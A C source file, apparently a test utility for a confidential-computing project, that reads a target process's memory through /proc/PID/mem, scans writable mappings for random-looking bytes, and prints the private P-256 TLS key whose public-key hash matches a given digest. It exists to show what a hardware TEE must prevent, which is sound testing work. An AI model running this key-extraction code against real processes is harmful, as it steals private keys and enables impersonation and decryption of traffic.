/* SPDX-License-Identifier: Apache-2.0 */
/* What an operator can do to a process Keep, and a hardware TEE must prevent: reads the private TLS key out
 * of its memory. Usage: steal-key PID SPKI_SHA256_HEX; prints the key in hexadecimal. (Acceptance test 2
 * needs a stolen key.) */
#include <fcntl.h>
#include <psa/crypto.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../../src/proto/crypto.h"

enum { KEY = P256_PRIVATE_SIZE, DISTINCT = 20 };

static uint8_t wanted[DIGEST_SIZE];

static bool is_wanted(const uint8_t key[KEY])
{
    uint8_t point[P256_POINT_SIZE], spki[P256_SPKI_SIZE], digest[DIGEST_SIZE];
    if (crypto_p256_public(key, point) != 0)
        return false;
    crypto_p256_spki(point, spki);
    struct span part = span_of(spki, sizeof spki);
    return crypto_sha256(&part, 1, digest) == 0 && memcmp(digest, wanted, sizeof digest) == 0;
}

/* Keys look random; most memory does not. */
static bool looks_random(const uint8_t *bytes)
{
    bool seen[256] = {false};
    int distinct = 0;
    for (int i = 0; i < KEY; i++) {
        distinct += !seen[bytes[i]];
        seen[bytes[i]] = true;
    }
    return distinct >= DISTINCT;
}

static bool search(const uint8_t *bytes, size_t size)
{
    for (size_t at = 0; at + KEY <= size; at += 8) {
        if (!looks_random(bytes + at))
            continue;
        uint8_t key[2][KEY]; /* as it stands, and as little-endian words */
        memcpy(key[0], bytes + at, KEY);
        for (int i = 0; i < KEY; i++)
            key[1][i] = bytes[at + (size_t)(KEY - 1 - i)];
        for (int way = 0; way < 2; way++) {
            if (!is_wanted(key[way]))
                continue;
            for (int i = 0; i < KEY; i++)
                (void)printf("%02x", key[way][i]);
            (void)printf("\n");
            return true;
        }
    }
    return false;
}

static bool search_mapping(int memory, unsigned long long start, unsigned long long end)
{
    enum { STEP = 1 << 20 };
    static uint8_t bytes[STEP + KEY];
    for (unsigned long long at = start; at < end; at += STEP) {
        size_t size = end - at < sizeof bytes ? (size_t)(end - at) : sizeof bytes;
        ssize_t got = pread(memory, bytes, size, (off_t)at);
        if (got > 0 && search(bytes, (size_t)got))
            return true;
    }
    return false;
}

int main(int argc, char **argv)
{
    char path[64], line[512];
    if (argc != 3 || strlen(argv[2]) != 2 * sizeof wanted || psa_crypto_init() != PSA_SUCCESS) {
        (void)fprintf(stderr, "usage: steal-key PID SPKI_SHA256_HEX\n");
        return 2;
    }
    for (size_t i = 0; i < sizeof wanted; i++) {
        char digits[3] = {argv[2][2 * i], argv[2][2 * i + 1], 0};
        wanted[i] = (uint8_t)strtoul(digits, NULL, 16);
    }
    (void)snprintf(path, sizeof path, "/proc/%d/mem", atoi(argv[1]));
    int memory = open(path, O_RDONLY | O_CLOEXEC);
    (void)snprintf(path, sizeof path, "/proc/%d/maps", atoi(argv[1]));
    FILE *maps = fopen(path, "r");
    if (memory < 0 || !maps) {
        perror(path);
        return 1;
    }
    while (fgets(line, sizeof line, maps)) {
        unsigned long long start, end;
        char access[5];
        if (sscanf(line, "%llx-%llx %4s", &start, &end, access) == 3 && access[0] == 'r' &&
            access[1] == 'w' && search_mapping(memory, start, end))
            return 0;
    }
    (void)fprintf(stderr, "no key found\n");
    return 1;
}
